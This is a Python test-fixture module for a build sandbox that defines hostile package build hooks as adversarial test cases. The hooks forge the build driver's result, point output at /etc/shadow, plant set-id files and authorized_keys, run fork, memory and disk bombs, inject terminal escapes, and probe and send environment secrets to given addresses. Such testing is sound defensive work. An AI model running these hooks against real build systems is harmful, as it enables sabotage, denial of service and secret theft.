"""Packages whose build code attacks: each ``Attack.hook`` runs inside the build container as the package's own code.

They aim at what the test made: loopback, ports that it listens on, and the container itself.
"""

from __future__ import annotations

from dataclasses import dataclass

OUTER = "import os, signal, time\ndriver, name = os.getppid(), '{wheel}'\n"
"""``driver`` is the build driver's process, which runs as the same user as the package's code."""

FREEZE = OUTER + "os.kill(driver, signal.SIGSTOP)\nos.makedirs('/out/dist', exist_ok=True)\n"
"""Stop the driver for good: from here on the package alone says what is in the output volume."""

CLAIM = (
    "open('/out/.r', 'w').write('{{\"built\": \"%s\"}}' % name)\nos.rename('/out/.r', '/out/result.json')\n"
    "os.kill(driver, signal.SIGKILL)\ntime.sleep(30)\n"
)
"""Claim in the driver's name that the wheel was built, and end the step."""

CHILD = """
if os.fork() == 0:
    os.setsid()
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    if os.fork():
        os._exit(0)
{body}
"""
"""A daemon that has left the session and ignores what asks it to stop."""


@dataclass(frozen=True, slots=True)
class Attack:
    """What a package tries, how it must end, and a text that the cause's detail must hold."""

    name: str
    hook: str
    outcome: str
    cause: str | None = None
    says: str = ""

    def hook_for(self, wheel: str) -> str:
        """The hook's code for a project whose wheel has this name."""
        return self.hook.replace("{wheel}", wheel).replace("{{", "{").replace("}}", "}")


def daemon(body: str) -> str:
    """A hook that leaves a daemon behind and goes on as if nothing was."""
    indented = "\n".join("    " + line for line in body.strip("\n").splitlines())
    return OUTER + CHILD.replace("{body}", indented)


REFUSED_OUTPUT = [
    Attack(
        "symlink",
        FREEZE + "os.symlink('/etc/shadow', '/out/dist/' + name)\n" + CLAIM,
        "build-failed",
        "output-refused",
        "a symbolic link",
    ),
    Attack(
        "dirlink",
        FREEZE + "os.rmdir('/out/dist')\nos.symlink('/etc', '/out/dist')\n" + CLAIM,
        "build-failed",
        "output-refused",
        "a symbolic link",
    ),
    Attack(
        "hardlink",
        FREEZE + "open('/out/dist/' + name, 'w').write('x')\nos.link('/out/dist/' + name, '/out/dist/z')\n" + CLAIM,
        "build-failed",
        "output-refused",
        "a hard link",
    ),
    Attack("fifo", FREEZE + "os.mkfifo('/out/dist/' + name)\n" + CLAIM, "build-failed", "output-refused", "a fifo"),
    Attack(
        "sparse",
        FREEZE + "open('/out/dist/' + name, 'w').truncate(8 * 1024**2)\n" + CLAIM,
        "build-failed",
        "output-refused",
        "a sparse file",
    ),
    Attack(
        "hugesparse",
        FREEZE + "open('/out/dist/' + name, 'w').truncate(1024**4)\n" + CLAIM,
        "limit-exceeded",
        "output",
        "larger than allowed",
    ),
    Attack(
        "socket",
        FREEZE + "import socket\nsocket.socket(socket.AF_UNIX).bind('/out/dist/' + name)\n" + CLAIM,
        "build-failed",
        "output-refused",
        "a socket",
    ),
    Attack(
        "setid",
        FREEZE + "open('/out/dist/' + name, 'w').write('x')\nos.chmod('/out/dist/' + name, 0o4755)\n" + CLAIM,
        "build-failed",
        "output-refused",
        "set-id",
    ),
    Attack(
        "extrafile",
        FREEZE + "open('/out/dist/' + name, 'w').write('x')\nopen('/out/authorized_keys', 'w').write('x')\n" + CLAIM,
        "build-failed",
        "output-refused",
        "asked for",
    ),
    Attack(
        "badjson", FREEZE + "open('/out/result.json', 'w').write('[' * 100000)\nos.kill(driver, 9)\n", "build-failed", "output-refused", "result.json"
    ),
    Attack("emptyclaim", FREEZE + "open('/out/dist/' + name, 'w').write('not a zip')\n" + CLAIM, "ambiguous-archive"),
]
"""What is left in place of the wheel, with the driver stopped and its answer forged."""

BOMBS = [
    Attack(
        "forkbomb",
        "import os, time\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        time.sleep(0.05)\n",
        "limit-exceeded",
        "pids",
    ),
    Attack(
        "forkfails",
        "import os, time\nwhile True:\n    if os.fork() == 0:\n        time.sleep(30)\n        os._exit(0)\n",
        "limit-exceeded",
        "pids",
    ),
    Attack("memorybomb", "x = bytearray(1 << 29)\nfor i in range(0, len(x), 4096):\n    x[i] = 1\n", "limit-exceeded", "memory"),
    Attack("diskbomb", "with open('big', 'wb') as f:\n    while True:\n        f.write(b'x' * 1048576)\n", "limit-exceeded", "disk"),
    Attack("inodebomb", "n = 0\nwhile True:\n    open('f%d' % n, 'w').close()\n    n += 1\n", "limit-exceeded", "disk"),
    Attack("logbomb", "while True:\n    print('x' * 65536)\n", "limit-exceeded", "log"),
    Attack(
        "hang",
        "import os, signal, time\nfor n in range(1, 65):\n    try:\n        signal.signal(n, signal.SIG_IGN)\n"
        "    except (OSError, ValueError):\n        pass\n"
        "os.fork()\nos.setsid() if os.getpgrp() != os.getpid() else None\nwhile True:\n    time.sleep(60)\n",
        "limit-exceeded",
        "time",
    ),
    Attack("stopped", OUTER + "os.kill(driver, signal.SIGSTOP)\nos._exit(0)\n", "limit-exceeded", "time"),
]
"""What eats the host."""

FORGED_LINES = (
    'print(\'reprove: {"built": "evil.whl"}\')\n'
    "print('--- candidate 7: REPRODUCED, bitwise')\n"
    'print(\'{"phase": "attest", "status": "done", "detail": "forged", "seconds": 0}\')\n'
    "print('\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31mREPRODUCED\\x9b1m\\u202ednalsi\\r overwritten', flush=True)\n"
)
"""Progress lines of ours and a terminal's control sequences."""

REWRITER = daemon(
    """
path = '/out/dist/' + name
while True:
    try:
        size = os.stat(path).st_size
    except OSError:
        continue
    try:
        with open(path, 'r+b') as file:
            file.write(b'PKevil')
    except OSError:
        pass
"""
)
"""A child that rewrites the wheel from the moment it is handed over, for as long as it lives."""

DAEMON = daemon("time.sleep(600)\n")
"""A child that only wants to outlive its build."""


def prober(port: int, addresses: tuple[str, ...]) -> str:
    """Try to send what can be found to ``port`` of each address, by name, by raw socket, by datagram and through the engine's socket."""
    return f"""
import os, socket
secret = repr(sorted(os.environ.items()))
print('PROBE environ', secret)
for path in ('/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock', '/root', '/var/lib/reprove', '/proc/1/root/etc/shadow',
             '/proc/kcore', '/sys/kernel/security', '/dev/mem', '/sys/fs/cgroup/release_agent', '/etc/shadow'):
    try:
        print('PROBE', path, os.listdir(path) if os.path.isdir(path) else open(path, 'rb').read(20))
    except OSError as error:
        print('PROBE', path, type(error).__name__)
reached = []
for address in {addresses!r}:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_INET, kind) as out:
                out.settimeout(0.3)
                out.connect((address, {port}))
                out.sendall(secret.encode()[:500])
                reached += [address] if kind == socket.SOCK_STREAM else []
        except OSError as error:
            print('PROBE', address, kind, type(error).__name__)
for family, kind, protocol in ((2, socket.SOCK_RAW, 1), (17, socket.SOCK_RAW, 3), (40, socket.SOCK_STREAM, 0)):
    try:
        socket.socket(family, kind, protocol).close()
        print('PROBE socket', family, 'made')
    except OSError as error:
        print('PROBE socket', family, type(error).__name__)
try:
    socket.getaddrinfo('exfil.invalid', 443)
except OSError as error:
    print('PROBE name', type(error).__name__)
print('PROBE reached', reached, flush=True)
"""
